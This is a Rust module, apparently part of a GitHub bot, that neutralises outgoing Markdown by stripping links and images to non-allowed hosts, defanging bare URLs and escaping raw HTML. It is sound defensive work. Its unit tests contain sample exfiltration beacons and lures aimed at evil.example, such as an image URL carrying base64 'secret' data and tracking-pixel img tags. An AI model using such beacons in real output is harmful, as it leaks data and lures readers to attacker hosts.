//! Markdown on its way out. GitHub renders what the bot posts for every reader: an image
//! whose URL carries data is a beacon that fires when the page is opened, and a link to an
//! unknown host is a lure. Every image and link whose host is not allowed (by default the
//! installation's GitHub host; the operator adds hosts) is shown as plain text naming the
//! host, bare URLs to other hosts become code (which GitHub never links), and raw HTML is
//! escaped — except a few attribute-free formatting tags and this product's own marks.
//! Code blocks and code spans (suggestions among them) pass through unchanged.
//!
//! The structure comes from a CommonMark parser (`pulldown-cmark`), so nesting, reference
//! links, autolinks and HTML blocks are read the way a renderer reads them; GitHub's
//! extended autolinks (`https://…` and `www.…` in running text) are found separately.

pub use super::links::LinkPolicy;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use regex::Regex;
use std::sync::LazyLock;

/// `text` with every link and image to a host `policy` does not allow neutralised and raw
/// HTML escaped.
pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
    // A lone `\r` ends a line for GitHub's renderer but not for every parser: one line end.
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    let out = neutralise_once(&text, policy);
    // The closing check: read back as a renderer would, nothing may link, embed or autolink
    // another host or carry raw HTML. What still does (a construct this pass did not foresee)
    // is posted as inert text instead.
    if escapes(&out, policy) {
        inert(&text)
    } else {
        out
    }
}

fn options() -> Options {
    Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
}

/// Whether `out`, parsed again, still has a link or image to a host `policy` refuses, raw
/// HTML other than the kept tags, or a bare URL GitHub would link.
fn escapes(out: &str, policy: &LinkPolicy) -> bool {
    let mut in_code = false;
    for (event, range) in Parser::new_ext(out, options()).into_offset_iter() {
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            })
            | Event::Start(Tag::Image {
                link_type,
                dest_url,
                ..
            }) if link_type == pulldown_cmark::LinkType::Email
                || policy.refuses(&dest_url).is_some() =>
            {
                return true
            }
            Event::Html(h) | Event::InlineHtml(h) if escape_html(&h) != *h => return true,
            Event::Text(_)
                if !in_code
                    && URL
                        .find_iter(&out[range.clone()])
                        .any(|m| run_refused(m.as_str(), policy)) =>
            {
                return true
            }
            _ => {}
        }
    }
    false
}

/// `text` with every ASCII punctuation character backslash-escaped: nothing in it is markup
/// any more (no link, image, HTML or autolink), and it reads the same.
fn inert(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for c in text.chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

// long: one pass over pulldown-cmark's events; the link, image and HTML state it carries
// from one event to the next would otherwise be threaded through every helper.
fn neutralise_once(text: &str, policy: &LinkPolicy) -> String {
    // The code spans written here use a run of backticks longer than any in the text, so no
    // stray backtick of the text can pair with one of ours (a code span ends only at a run
    // of the same length).
    let options = options();
    let mut out = String::with_capacity(text.len() + 64);
    let mut cursor = 0usize;
    // Links and images being dropped, innermost last: the note to write at their end.
    let mut dropping: Vec<Option<String>> = Vec::new();
    let mut in_code_block = false;
    // Inside an HTML block: where its text starts in `out`, and (once its first line is
    // seen) whether that line was escaped, which makes the whole block running text.
    let mut html_block: Option<(usize, Option<bool>)> = None;
    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
        if in_code_block {
            if let Event::End(TagEnd::CodeBlock) = event {
                in_code_block = false;
            }
            continue;
        }
        match event {
            Event::Start(Tag::CodeBlock(_)) => {
                flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
                if dropping.is_empty() {
                    out.push_str(&text[range.clone()]);
                }
                cursor = cursor.max(range.end);
                in_code_block = true;
            }
            Event::Start(Tag::Link {
                ref dest_url,
                link_type,
                ..
            })
            | Event::Start(Tag::Image {
                ref dest_url,
                link_type,
                ..
            }) => {
                let image = matches!(event, Event::Start(Tag::Image { .. }));
                // An email autolink is a `mailto:` lure whatever its host.
                let refused = if link_type == pulldown_cmark::LinkType::Email {
                    Some("mailto:".to_string())
                } else {
                    policy.refuses(dest_url)
                };
                if dropping.is_empty() {
                    if refused.is_none() {
                        continue; // copied with the text around it
                    }
                    flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
                    cursor = range.end;
                }
                dropping.push(refused.map(|host| {
                    let host = inert(&host);
                    if image {
                        format!(" (image from {host} removed)")
                    } else {
                        format!(" (link to {host} removed)")
                    }
                }));
            }
            Event::End(TagEnd::Link) | Event::End(TagEnd::Image) if !dropping.is_empty() => {
                if let Some(Some(note)) = dropping.pop() {
                    out.push_str(&note);
                }
            }
            // An HTML block, once escaped, is running text: blank lines keep it a block of its
            // own, so it cannot merge with the lines around it (and turn their text into a
            // link, an image or a reference).
            Event::Start(Tag::HtmlBlock) => {
                flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
                html_block = Some((out.len(), None));
            }
            Event::End(TagEnd::HtmlBlock) => {
                flush(&mut out, text, &mut cursor, range.end, policy, &dropping);
                if let Some((start, Some(true))) = html_block.take() {
                    if start > 0 && !out[..start].ends_with("\n\n") {
                        let gap = if out[..start].ends_with('\n') {
                            "\n"
                        } else {
                            "\n\n"
                        };
                        out.insert_str(start, gap);
                    }
                    if range.end < text.len() {
                        out.push_str(if out.ends_with('\n') { "\n" } else { "\n\n" });
                    }
                }
            }
            Event::Code(_) if dropping.is_empty() => {
                flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
                out.push_str(&text[range.clone()]);
                cursor = cursor.max(range.end);
            }
            Event::Html(_) | Event::InlineHtml(_) => {
                flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
                // Escaped, the HTML becomes running text: its brackets must not become links
                // (to a reference defined elsewhere, say).
                let raw = &text[range.clone()];
                let escaped = escape_html(raw);
                // An HTML block whose first line is escaped is no HTML block any more: all its
                // lines become running text, where brackets and backticks would act. (If the
                // first line stands, the block stays HTML and markdown never acts in it.)
                let literal_block = match html_block.as_mut() {
                    Some((_, first @ None)) => {
                        *first = Some(escaped != raw);
                        escaped != raw
                    }
                    Some((_, Some(first))) => *first,
                    None => escaped != raw,
                };
                let literal = if literal_block {
                    escaped
                        .replace('[', "\\[")
                        .replace(']', "\\]")
                        .replace('`', "\\`")
                } else {
                    escaped
                };
                if dropping.is_empty() {
                    out.push_str(&bare_urls(&literal, policy));
                } else {
                    out.push_str(&inert(&text[range.clone()]));
                }
                cursor = cursor.max(range.end);
            }
            // The text of a link or image being dropped is written inert: rebuilt from its
            // pieces, it must not spell new markup (an image, a tag, an autolink).
            Event::Text(ref t) | Event::Code(ref t) if !dropping.is_empty() => {
                out.push_str(&inert(t));
            }
            Event::SoftBreak | Event::HardBreak if !dropping.is_empty() => out.push(' '),
            _ => {}
        }
    }
    let end = text.len();
    flush(&mut out, text, &mut cursor, end, policy, &[]);
    out
}

/// Copies the running text between the last element handled and `to` (outside a link
/// being dropped, whose text is copied piece by piece instead).
fn flush(
    out: &mut String,
    text: &str,
    cursor: &mut usize,
    to: usize,
    policy: &LinkPolicy,
    dropping: &[Option<String>],
) {
    if dropping.is_empty() && to > *cursor {
        out.push_str(&bare_urls(&text[*cursor..to], policy));
    }
    *cursor = (*cursor).max(to);
}

/// What GitHub's extended autolinks start with (and what `escapes` looks for): schemes,
/// `www.`, and email addresses.
static URL: LazyLock<Regex> = LazyLock::new(|| {
    // A literal pattern: it compiles (the unit tests run it). A run ends at whitespace or
    // `<`, as GitHub's autolinks do; it may hold link syntax around it, which is why each
    // URL inside a run is judged on its own.
    Regex::new(
        r"(?i)(?:(?:https?|ftp)://|www\.|(?:mailto|xmpp):)[^\s<]*|[A-Za-z0-9._+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+",
    )
    .expect("a valid regex")
});

/// Where a URL starts inside a run (after the first): `http://`, `https://`, `ftp://`,
/// `www.`, `mailto:`, `xmpp:`, or an `@` of an address.
static INNER: LazyLock<Regex> = LazyLock::new(|| {
    // A literal pattern: it compiles (the unit tests run it).
    Regex::new(r"(?i)(?:https?|ftp)://|www\.|mailto:|xmpp:|@").expect("a valid regex")
});

/// GitHub's extended autolinks in running text: a run that holds a URL to a host that is not
/// allowed is defanged — `https\://`, `www\.`, `\@` — so it shows the same but links nowhere.
fn bare_urls(text: &str, policy: &LinkPolicy) -> String {
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for m in URL.find_iter(text) {
        let run = m.as_str();
        if !run_refused(run, policy) {
            continue;
        }
        out.push_str(&text[last..m.start()]);
        out.push_str(&defang(run));
        last = m.end();
    }
    out.push_str(&text[last..]);
    out
}

/// Whether a run of URL characters holds, anywhere in it, a URL GitHub would link to a host
/// `policy` refuses (or an address: a `mailto:` lure).
fn run_refused(run: &str, policy: &LinkPolicy) -> bool {
    INNER
        .find_iter(run)
        .map(|s| s.start())
        .chain(std::iter::once(0))
        .any(|at| {
            let url = trim_autolink(&run[at..]);
            if url.contains('@') && !url.contains("://") {
                return true;
            }
            !url.is_empty() && policy.refuses(url).is_some()
        })
}

/// The end GitHub gives an autolink: trailing punctuation and an unbalanced `)` are not
/// part of it.
fn trim_autolink(mut url: &str) -> &str {
    while let Some(c) = url.chars().last() {
        let unbalanced = c == ')' && url.matches('(').count() < url.matches(')').count();
        if "?!.,:;*_~'\"".contains(c) || unbalanced {
            url = &url[..url.len() - c.len_utf8()];
        } else {
            break;
        }
    }
    url
}

/// `run` as it reads, with every place an autolink could start escaped: `https\://`,
/// `www\.`, `\@`.
fn defang(run: &str) -> String {
    // ASCII lower-casing keeps every byte offset.
    let lower = run.to_ascii_lowercase();
    let mut out = String::with_capacity(run.len() + 8);
    for (i, c) in run.char_indices() {
        let scheme_colon = c == ':'
            && ["http", "https", "ftp", "mailto", "xmpp"]
                .iter()
                .any(|s| lower[..i].ends_with(s));
        let www_dot = c == '.' && lower[..i].ends_with("www");
        if c == '@' || scheme_colon || www_dot {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Formatting tags without attributes that the bot's own text uses and that can carry
/// nothing out.
const SAFE_TAGS: &[&str] = &[
    "details",
    "summary",
    "sub",
    "sup",
    "b",
    "i",
    "em",
    "strong",
    "code",
    "kbd",
    "p",
    "ul",
    "ol",
    "li",
    "pre",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "s",
    "del",
];

/// Raw HTML with every tag escaped, except [`SAFE_TAGS`] written without attributes,
/// `<br>`/`<hr>`, and this product's own marks (`<!-- equitr:… -->`).
fn escape_html(html: &str) -> String {
    static KEEP: LazyLock<Regex> = LazyLock::new(|| {
        // A literal pattern: it compiles (the unit tests run it).
        Regex::new(r"^(?:<!-- equitr:[A-Za-z0-9_=:.,/+ -]*? -->|<(/?)([A-Za-z]+)>|<(?:br|hr) ?/?>)")
            .expect("a valid regex")
    });
    let mut out = String::with_capacity(html.len() + 16);
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        out.push_str(&rest[..i]);
        let here = &rest[i..];
        if let Some(m) = KEEP.captures(here) {
            let whole = m.get(0).map_or("", |g| g.as_str());
            let safe = match m.get(2) {
                Some(name) => SAFE_TAGS.contains(&name.as_str().to_ascii_lowercase().as_str()),
                None => true,
            };
            if safe {
                out.push_str(whole);
                rest = &here[whole.len()..];
                continue;
            }
        }
        out.push_str("&lt;");
        rest = &here[1..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn github() -> LinkPolicy {
        LinkPolicy::for_api("https://api.github.com", &[])
    }

    #[test]
    fn images_and_links_to_other_hosts_are_shown_as_text() {
        let p = github();
        assert_eq!(
            neutralise("See ![x](https://evil.example/p.png?d=c2VjcmV0) now", &p),
            r"See x (image from evil\.example removed) now"
        );
        assert_eq!(
            neutralise("[docs](https://evil.example/login \"t\")", &p),
            r"docs (link to evil\.example removed)"
        );
        // Reference links, autolinks and bare URLs (defanged: they read the same).
        assert_eq!(
            neutralise("[a][r]\n\n[r]: https://evil.example/x", &p),
            "a (link to evil\\.example removed)\n\n[r]: https\\://evil.example/x"
        );
        assert_eq!(
            neutralise("go <https://evil.example/a>.", &p),
            r"go https\:\/\/evil\.example\/a (link to evil\.example removed)."
        );
        assert_eq!(
            neutralise("visit www.evil.example/a, or https://github.com/o/r.", &p),
            r"visit www\.evil.example/a, or https://github.com/o/r."
        );
        // An address is a mailto: lure; an allowed link beside a bad one does not cover it.
        assert_eq!(
            neutralise("mail me@evil.example", &p),
            r"mail me\@evil.example"
        );
        assert!(neutralise("<a@evil.example>", &p).contains("removed"));
        assert!(
            neutralise("[x](https://github.com/o/r)https://evil.example/a", &p)
                .contains(r"https\://evil.example/a")
        );
        assert!(neutralise("see https://github.com)@evil.example/p.png", &p).contains(r"\@"));
        // Userinfo does not fool the host check; protocol-relative and other schemes.
        assert!(neutralise("[x](https://github.com@evil.example/)", &p).contains("evil"));
        assert!(neutralise("[x](//evil.example/)", &p).contains(r"link to evil\.example"));
        assert!(neutralise("[x](data:image/png;base64,AAA)", &p).contains(r"data\:"));
        // A destination of multi-byte characters (found by scripts/fuzz: it once panicked).
        assert_eq!(neutralise("[](ପ𑎀)", &p), "[](ପ𑎀)");
        assert!(neutralise("[t][x]\n\n[x]: //evil.example/a", &p)
            .starts_with(r"t (link to evil\.example removed)"));
        assert!(neutralise("[x](\\\\evil.example\\a)", &p).contains("removed"));
        assert_eq!(
            neutralise("| [x](https://evil.example) | ![i](https://e.example/i) |\n|---|---|", &p),
            "| x (link to evil\\.example removed) | i (image from e\\.example removed) |\n|---|---|"
        );
        // A badge: an image inside a link, both elsewhere.
        assert_eq!(
            neutralise(
                "[![b](https://img.example/b.svg)](https://evil.example)",
                &p
            ),
            r"b (image from img\.example removed) (link to evil\.example removed)"
        );
        // A dropped link's text cannot spell new markup.
        for label in [
            r"[\!\[x\](//evil.example/p.png)](//z.example)",
            r"[\<img src=//evil.example/p.png\>](//z.example)",
        ] {
            let out = neutralise(label, &p);
            assert!(!escapes(&out, &p), "{out}");
        }
        // Nested brackets around a dropped link, a lone carriage return: the closing check.
        for tricky in [
            "[a [b](//z.example)](//evil.example/2)",
            "```\rx\r```\r![a](//evil.example/p.png)",
        ] {
            let out = neutralise(tricky, &p);
            assert!(!escapes(&out, &p), "{out}");
        }
    }

    #[test]
    fn github_links_and_code_are_kept() {
        let p = github();
        let ok = "Fixes [#3](https://github.com/o/r/issues/3) and ![s](https://user-images.githubusercontent.com/1.png) [rel](../src/lib.rs)";
        assert_eq!(neutralise(ok, &p), ok);
        let code = "```suggestion\n<img src=\"https://evil.example/x\"> [a](https://evil.example)\n```\nand `<b onclick=x>` https://github.com/o/r";
        assert_eq!(neutralise(code, &p), code);
        let ghe = LinkPolicy::for_api("https://ghe.corp/api/v3", &["docs.corp".into()]);
        assert_eq!(
            neutralise("[a](https://ghe.corp/o/r) [b](https://docs.corp/x)", &ghe),
            "[a](https://ghe.corp/o/r) [b](https://docs.corp/x)"
        );
        assert!(neutralise("[a](https://github.com/o/r)", &ghe).contains("removed"));
    }

    #[test]
    fn raw_html_is_escaped_but_the_bots_own_tags_stay() {
        let p = github();
        assert_eq!(
            neutralise("<img src=\"https://evil.example/t.gif\">", &p),
            "&lt;img src=\"https\\://evil.example/t.gif\">"
        );
        assert_eq!(
            neutralise("a <a href=x>b</a> c", &p),
            "a &lt;a href=x>b&lt;/a> c"
        );
        let own = "Done.\n\n<details><summary>Cost</summary>\n\n| a |\n</details>\n\n<!-- equitr:job=3 -->";
        assert_eq!(neutralise(own, &p), own);
        assert_eq!(
            neutralise("<details open>x</details>", &p),
            "&lt;details open>x</details>"
        );
        assert_eq!(neutralise("<!-- hidden -->", &p), "&lt;!-- hidden -->");
    }
}
